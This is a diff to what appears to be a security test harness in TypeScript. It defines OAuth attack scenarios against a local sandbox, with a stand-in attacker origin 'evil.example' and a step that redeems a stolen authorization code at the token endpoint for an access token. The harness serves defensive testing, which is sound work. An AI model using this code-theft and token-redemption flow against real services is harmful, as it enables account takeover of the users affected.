@@ -2,7 +2,8 @@ import { once } from "node:events";
 import { readFileSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
-import { type Attack, allow, askPortal } from "./stage.ts";
+import { type Attack, allow } from "./stage.ts";
+import { exchangeText } from "./wire.ts";
 
 const evil = "https://evil.example";
 
@@ -58,9 +59,15 @@ export const attacks: Record<string, Attack> = {
     const ours = await thief.send(`${config.callbackPath}?${query}`);
     const { clientId: client_id, redirectUri: redirect_uri } = config;
     const form = { grant_type: "authorization_code", client_id, redirect_uri, code: await steal() };
-    const portals = await askPortal(`${sandbox.url}/oauth2/token`, form);
+    const url = `${sandbox.url}/oauth2/token`;
+    const response = await fetch(url, { method: "POST", body: new URLSearchParams(form) });
+    const portals = { status: response.status, headers: {}, body: await response.text() };
+    const text = exchangeText({ method: "POST", url, form }, portals);
     const isIssued = /"access_token"/.test(portals.body);
-    return { succeeded: isIssued || (await thief.user()) !== undefined, replies: [ours, portals] };
+    return {
+      succeeded: isIssued || (await thief.user()) !== undefined,
+      replies: [ours, { ...portals, text }],
+    };
   },
 
   async edited({ signedIn, victim, fileOf }) {
